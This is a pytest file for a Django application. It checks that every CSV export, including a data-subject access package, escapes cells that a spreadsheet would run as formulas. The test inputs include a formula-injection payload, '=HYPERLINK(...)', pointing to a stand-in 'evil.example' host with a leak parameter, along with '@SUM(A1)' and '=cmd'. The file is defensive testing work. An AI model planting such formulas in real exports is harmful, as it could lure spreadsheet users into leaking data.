"""One CSV writer, which escapes formulas, for every CSV the application writes."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings

from governance.services import requests as dsr
from mis.csvfiles import csv_dict_writer, csv_text
from tests.factories import CustomerFactory, UserFactory

APP_PACKAGES = ("customers", "governance", "insight", "mis")
# Files the application writes for its own machinery, never for a person: a
# leading quote would change the data they carry.
MACHINE_FILES = {
    "customers/duplicates/services/sweep.py": "the duplicate sweep's input to DuckDB",
}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click me")'


def test_every_csv_the_app_writes_goes_through_the_one_writer():
    root = Path(settings.BASE_DIR)
    offenders = []
    for package in APP_PACKAGES:
        for path in (root / package).rglob("*.py"):
            relative = path.relative_to(root).as_posix()
            if "/migrations/" in relative or relative == "mis/csvfiles.py":
                continue
            text = path.read_text(encoding="utf-8")
            if ("csv.writer(" in text or "csv.DictWriter(" in text) and (
                relative not in MACHINE_FILES
            ):
                offenders.append(relative)
    assert offenders == []


@pytest.mark.parametrize("value", [HYPERLINK, "+44 7911 123456", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    row = next(csv.reader(io.StringIO(csv_text([[value, "plain"]]))))

    assert row == ["'" + value, "plain"]


def test_the_dict_writer_escapes_the_header_and_the_cells():
    buffer = io.StringIO()
    writer = csv_dict_writer(buffer, fieldnames=["=cmd"])
    writer.writeheader()
    writer.writerow({"=cmd": HYPERLINK})

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=cmd"], ["'" + HYPERLINK]]


@pytest.mark.django_db
def test_the_data_subject_package_escapes_formulas():
    dpo = UserFactory(is_superuser=True)
    customer = CustomerFactory(first_name=HYPERLINK, city="@London")
    request = dsr.dsr_register(customer=customer, kind="access", received_via="email")
    request = dsr.dsr_identity_check(request=request, verified=True, method="passport", actor=dpo)

    request = dsr.dsr_fulfil(request=request, actor=dpo)

    with zipfile.ZipFile(request.package.open("rb")) as archive:
        record = next(csv.DictReader(io.StringIO(archive.read("customer.csv").decode())))
        raw = archive.read("data.json").decode()
    assert record["first_name"] == "'" + HYPERLINK
    assert record["city"] == "'@London"
    assert HYPERLINK.replace('"', '\\"') in raw  # JSON is data, not a spreadsheet
